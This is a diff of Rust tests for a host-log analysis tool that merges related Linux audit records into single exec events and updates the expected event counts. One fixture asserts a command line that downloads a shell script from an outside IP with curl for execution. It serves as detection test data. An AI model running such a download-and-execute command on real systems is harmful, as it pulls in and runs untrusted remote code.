@@ -127,7 +127,6 @@ fn audit_log_is_sniffed_and_mapped() {
             row("logged-in", "success", "alice", "-"),
             row("session-opened", "success", "alice", "-"),
             row("process-created", "success", "alice", "-"),
-            row("exec-arguments", "-", "-", "-"),
             row("sudo", "success", "alice", "-"),
             row("session-closed", "success", "alice", "-"),
             row("logged-out", "success", "alice", "-"),
@@ -140,18 +139,19 @@ fn audit_log_is_sniffed_and_mapped() {
     assert_eq!(d[1]["lateral"]["logon_process"], "sshd");
     assert_eq!(d[2]["event"]["reason"], "invalid_user");
     assert_eq!(d[3]["source"]["ip"], "10.1.2.3");
-    // One exec: the SYSCALL's process and the EXECVE's arguments share the serial.
-    let (exec, args) = (&d[5], &d[6]);
+    // One exec: the SYSCALL's process, the EXECVE's arguments and the
+    // CWD's directory, joined by their serial into one event.
+    let exec = &d[5];
     assert_eq!(
-        args["process"]["command_line"],
+        exec["process"]["command_line"],
         "curl -o /tmp/x.sh http://198.51.100.9/x sh"
     );
     assert_eq!(exec["process"]["executable"], "/usr/bin/curl");
     assert_eq!(exec["labels"]["audit_serial"], "1010");
-    assert_eq!(args["labels"]["audit_serial"], "1010");
     assert_eq!(exec["labels"]["ppid"], "3020");
-    assert_eq!(d[7]["process"]["command_line"], "systemctl status sshd");
-    assert_eq!(d[7]["labels"]["pwd"], "/home/alice");
+    assert_eq!(exec["labels"]["cwd"], "/home/alice");
+    assert_eq!(d[6]["process"]["command_line"], "systemctl status sshd");
+    assert_eq!(d[6]["labels"]["pwd"], "/home/alice");
 }
 
 #[test]
@@ -159,10 +159,10 @@ fn analyze_reads_every_host_log() {
     let dir = testdata("");
     let o = run(&["analyze", "--stats", &dir]);
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
-    // 13 events from auth.log, 5 from journal.json, 10 from audit.log.
+    // 13 events from auth.log, 5 from journal.json, 9 from audit.log.
     let err = stderr(&o);
     assert!(err.contains("files                  3"), "{err}");
-    assert!(err.contains("(0 flows, 28 log events)"), "{err}");
+    assert!(err.contains("(0 flows, 27 log events)"), "{err}");
     let out = String::from_utf8_lossy(&o.stdout);
     assert!(out.starts_with("lateral analyze: "), "{out}");
 }
